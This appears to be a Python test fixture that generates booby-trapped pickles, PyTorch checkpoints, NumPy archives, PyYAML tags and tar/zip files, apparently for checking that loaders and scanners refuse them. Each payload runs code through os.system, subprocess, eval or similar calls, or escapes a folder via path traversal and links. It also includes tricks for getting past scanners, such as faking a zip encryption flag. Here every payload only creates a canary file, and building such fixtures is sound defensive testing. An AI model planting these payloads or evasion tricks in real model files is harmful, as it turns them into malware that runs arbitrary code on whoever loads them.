"""Files that run code when a careless program opens them: each makes a file, its canary."""

from __future__ import annotations

import io
import os
import pickle
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
"""With which a file of the old format of ``torch.save`` begins."""


def call(function: str, *arguments: Any) -> bytes:
    """The opcodes that import ``module.function`` and call it, without a frame around them."""
    module, _, name = function.rpartition(".")
    return f"c{module}\n{name}\n".encode() + pickle.dumps(arguments, protocol=2)[2:-1] + b"R"


def programs(canary: Path) -> dict[str, bytes]:
    """Pickles that make ``canary``, each by another way."""
    touch, code = f"touch '{canary}'", f"open({str(canary)!r}, 'w')"
    calls = {
        "os.system": call("os.system", touch),
        "posix.system": call("posix.system", touch),
        "os.popen": call("os.popen", touch),
        "os.mkdir": call("os.mkdir", str(canary)),
        "os.open": call("os.open", str(canary), os.O_CREAT),
        "getoutput": call("subprocess.getoutput", touch),
        "check_output": call("subprocess.check_output", ["touch", str(canary)]),
        "Popen": call("subprocess.Popen", ["touch", str(canary)]),
        "eval": call("builtins.eval", code),
        "exec": call("builtins.exec", code),
        "open": call("builtins.open", str(canary), "w"),
        "io.open": call("io.open", str(canary), "w"),
        "copy": call("shutil.copy", __file__, str(canary)),
        "runpy": call("runpy._run_code", code, {}),
        "timeit": call("timeit.timeit", "pass", code),
        "profile": call("cProfile.run", code),
        "collect_env": call("torch.utils.collect_env.run", touch),
        "spawnv": call("multiprocessing.util.spawnv_passfds", b"/bin/touch",
                       [b"touch", str(canary).encode()], []),
        "numpy": call("numpy.testing._private.utils.runstring", code, {}),
        "logging": call("logging.FileHandler", str(canary)),
    }  # fmt: skip
    system, text = calls["os.system"], touch.encode()
    dotted = b"\x8c\x13torch.serialization\x8c\x09os.system\x93"
    made = {name: b"\x80\x02" + opcodes + b"." for name, opcodes in calls.items()}
    return made | {
        "in a list": b"\x80\x02]" + system + b"a.",
        "in a dict": b"\x80\x02}(X\x0a\x00\x00\x00state_dict" + system + b"u.",
        "thrown away": b"\x80\x02" + system + b"0}.",
        "as a key": b"\x80\x02}" + system + b"K\x01s.",
        "as a state": b"\x80\x02ccollections\nOrderedDict\n)R}(X\x01\x00\x00\x00a" + system + b"ub.",
        "memorised": b"\x80\x02" + system + b"q\x00h\x00.",
        "behind another": pickle.dumps({"state_dict": {}})[:-1] + b"0" + system + b".",
        "protocol 0": b"cos\nsystem\n(V" + text + b"\ntR.",
        "inst": b"(V" + text + b"\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nV" + text + b"\no.",
        "through torch": b"\x80\x04" + dotted + pickle.dumps((touch,), 2)[2:-1] + b"R.",
    }


def files(program: bytes) -> Iterator[tuple[str, bytes]]:
    """A pickle in every kind of file that holds one: suffix and content."""
    old = b"".join(pickle.dumps(part, 2) for part in (TORCH_MAGIC, 1001, {}))
    new = {"archive/data.pkl": program, "archive/version": b"3\n", "archive/byteorder": b"little"}
    yield ".pkl", program
    yield ".pth", old + program
    yield ".pt", _zipped(new)
    yield ".ckpt", _zipped(new, flags=0x1)
    yield ".zip", _zipped(new | {"../../evil.py": b"", "/tmp/evil.py": b""})
    yield ".npz", _zipped({"a.npy": _object_array(program)})


def _zipped(members: dict[str, bytes], flags: int = 0) -> bytes:
    """A zip archive; ``flags`` are set in the header of its first member, so that scanners take it for
    encrypted."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    data = bytearray(file.getvalue())
    data[6] |= flags
    return bytes(data)


def _object_array(program: bytes) -> bytes:
    file = io.BytesIO()
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    np.lib.format.write_array_header_1_0(file, header)
    return file.getvalue() + program


def yaml_tags(canary: Path) -> list[str]:
    """YAML that PyYAML's other loaders would run."""
    touch, path = f"touch '{canary}'", str(canary)
    return [
        f"a: !!python/object/apply:os.system [{touch!r}]",
        f"a: !!python/object/new:os.system [{touch!r}]",
        f"a: !!python/object/apply:subprocess.check_output [[touch, {path!r}]]",
        f"a: !!python/object/apply:builtins.eval [\"open({path!r}, 'w')\"]",
        "a: !!python/name:os.system",
        "a: !!python/module:antigravity",
        f"? !!python/object/apply:os.mkdir [{path!r}]\n: 1",
        f"a: !<tag:yaml.org,2002:python/object/apply:os.mkdir> [{path!r}]",
    ]


def archives() -> Iterator[bytes]:
    """Tar archives with one member that leads out of the folder: a file, a link."""
    for kind, name, target in (
        (tarfile.REGTYPE, "../escaped.txt", ""),
        (tarfile.REGTYPE, "/tmp/escaped.txt", ""),
        (tarfile.SYMTYPE, "link", "/etc"),
        (tarfile.LNKTYPE, "hard", "../secret.txt"),
        (tarfile.CHRTYPE, "device", ""),
    ):
        file = io.BytesIO()
        with tarfile.open(fileobj=file, mode="w") as archive:
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, target
            archive.addfile(member)
        yield file.getvalue()


def run_carelessly(folder: Path) -> None:
    """Unpickles each program, in a process of its own; its canary in ``folder`` has its number."""
    import torch.utils.collect_env  # noqa: F401 - once for all

    for number, name in enumerate(programs(folder)):
        process = os.fork()
        if not process:
            try:
                pickle.loads(programs(folder / str(number))[name])
            finally:
                os._exit(0)
        os.waitpid(process, 0)


if __name__ == "__main__":
    run_carelessly(Path(sys.argv[1]))
